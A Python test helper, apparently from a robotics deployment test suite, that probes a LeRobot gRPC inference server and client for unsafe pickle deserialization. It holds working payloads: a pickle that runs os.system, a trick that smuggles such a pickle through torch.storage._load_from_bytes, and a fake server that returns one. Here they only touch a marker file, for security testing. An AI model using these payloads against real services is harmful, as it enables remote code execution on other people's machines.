"""gRPC probes for the deploy tests (runs in envs/act; prints one JSON line).

Why a helper: the tests run in the light ``tools`` env (no grpc, no LeRobot); these talk to a
real server over real gRPC with LeRobot's own stubs and message classes.

Usage: deploy_probe.py attack ADDR MARKER
           send payloads that would ``touch MARKER`` (os.system) through SendPolicyInstructions,
           SendObservations, and a tensor storage smuggled through torch.storage._load_from_bytes
       deploy_probe.py handshake ADDR CKPT:CAMS:STATE...
           legitimate RemotePolicyConfigs (robot cameras CAMS comma-separated, STATE joints);
           a list of {code, details}, one per case, from one process
       deploy_probe.py evil-server PORT MARKER
           a server whose health says SERVING and whose GetActions answers an os.system payload
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import pickle
import time
from concurrent import futures


def _code(call) -> dict:
    import grpc

    try:
        call()
        return {"code": "OK", "details": ""}
    except grpc.RpcError as e:
        return {"code": e.code().name, "details": e.details()}


class Evil:
    """Pickles to ``os.system(cmd)``."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def storage_smuggle(cmd: str) -> bytes:
    """A pickle whose only global is torch.storage._load_from_bytes, carrying an os.system pickle.

    The stock ``_load_from_bytes`` is ``torch.load(weights_only=False)``: it would run the inner
    payload. Built by hand so the outer pickle references nothing else.
    """
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

    # torch's legacy format: magic, version, sys info, then the object pickle (run unrestricted)
    sys_info = {"protocol_version": PROTOCOL_VERSION, "little_endian": True, "type_sizes": {}}
    inner = b"".join(
        pickle.dumps(x, protocol=2) for x in (MAGIC_NUMBER, PROTOCOL_VERSION, sys_info, Evil(cmd))
    )
    outer = io.BytesIO()
    p = pickle.Pickler(outer, protocol=4)  # bytes inline, not via _codecs.encode

    class Smuggle:
        def __reduce__(self):
            import torch.storage

            return (torch.storage._load_from_bytes, (inner,))

    p.dump(Smuggle())
    return outer.getvalue()


def features(cams: list[str], state: int) -> dict:
    from lerobot.utils.constants import OBS_STR
    from lerobot.utils.feature_utils import hw_to_dataset_features

    hw: dict = {f"j{i}.pos": float for i in range(state)}
    hw.update({c: (96, 128, 3) for c in cams})
    return hw_to_dataset_features(hw, OBS_STR, use_video=False)


def attack(addr: str, marker: str) -> dict:
    import grpc
    from lerobot.transport import services_pb2, services_pb2_grpc
    from lerobot.transport.utils import send_bytes_in_chunks

    stub = services_pb2_grpc.AsyncInferenceStub(grpc.insecure_channel(addr))
    evil = pickle.dumps(Evil(f"touch {marker}"))
    smuggled = storage_smuggle(f"touch {marker}")
    out = {
        "instructions": _code(
            lambda: stub.SendPolicyInstructions(services_pb2.PolicySetup(data=evil), timeout=10)
        ),
        "observations": _code(
            lambda: stub.SendObservations(
                send_bytes_in_chunks(evil, services_pb2.Observation), timeout=10
            )
        ),
        "storage_smuggle": _code(
            lambda: stub.SendObservations(
                send_bytes_in_chunks(smuggled, services_pb2.Observation), timeout=10
            )
        ),
    }
    time.sleep(0.5)
    out["marker_exists"] = os.path.exists(marker)
    # The proof that the smuggled storage is a real attack: stock pickle.loads runs it.
    # (the payload runs before torch notices the missing storage data and raises)
    with contextlib.suppress(Exception):
        pickle.loads(storage_smuggle(f"touch {marker}.stock"))
    out["stock_pickle_ran_smuggle"] = os.path.exists(f"{marker}.stock")
    return out


def handshake(addr: str, ckpt: str, cams: list[str], state: int) -> dict:
    import grpc
    from lerobot.async_inference.helpers import RemotePolicyConfig
    from lerobot.transport import services_pb2, services_pb2_grpc

    stub = services_pb2_grpc.AsyncInferenceStub(grpc.insecure_channel(addr))
    cfg = RemotePolicyConfig("act", ckpt, features(cams, state), 10, "cpu")
    return _code(
        lambda: stub.SendPolicyInstructions(
            services_pb2.PolicySetup(data=pickle.dumps(cfg)), timeout=60
        )
    )


def evil_server(port: int, marker: str) -> None:
    import grpc
    from lerobot.transport import services_pb2, services_pb2_grpc

    from scripts.deploy import health

    class Servicer(services_pb2_grpc.AsyncInferenceServicer):
        def Ready(self, request, context):
            return services_pb2.Empty()

        def SendPolicyInstructions(self, request, context):
            return services_pb2.Empty()

        def SendObservations(self, request_iterator, context):
            for _ in request_iterator:
                pass
            return services_pb2.Empty()

        def GetActions(self, request, context):
            time.sleep(0.05)
            return services_pb2.Actions(data=pickle.dumps(Evil(f"touch {marker}")))

    server = grpc.server(futures.ThreadPoolExecutor(4), options=[("grpc.so_reuseport", 0)])
    services_pb2_grpc.add_AsyncInferenceServicer_to_server(Servicer(), server)
    svc = health.HealthService()
    svc.set(health.SERVING)
    server.add_generic_rpc_handlers((svc.handler(),))
    server.add_insecure_port(f"127.0.0.1:{port}")
    server.start()
    print(json.dumps({"listening": port}), flush=True)
    server.wait_for_termination()


def main() -> None:
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    a = sub.add_parser("attack")
    a.add_argument("addr")
    a.add_argument("marker")
    h = sub.add_parser("handshake")
    h.add_argument("addr")
    h.add_argument("cases", nargs="+")
    e = sub.add_parser("evil-server")
    e.add_argument("port", type=int)
    e.add_argument("marker")
    args = p.parse_args()
    if args.cmd == "attack":
        print(json.dumps(attack(args.addr, args.marker)))
    elif args.cmd == "handshake":
        results = []
        for case in args.cases:
            path, cams, state = case.rsplit(":", 2)
            cam_list = [c for c in cams.split(",") if c]
            results.append(handshake(args.addr, path, cam_list, int(state)))
        print(json.dumps(results))
    else:
        evil_server(args.port, args.marker)


if __name__ == "__main__":
    main()
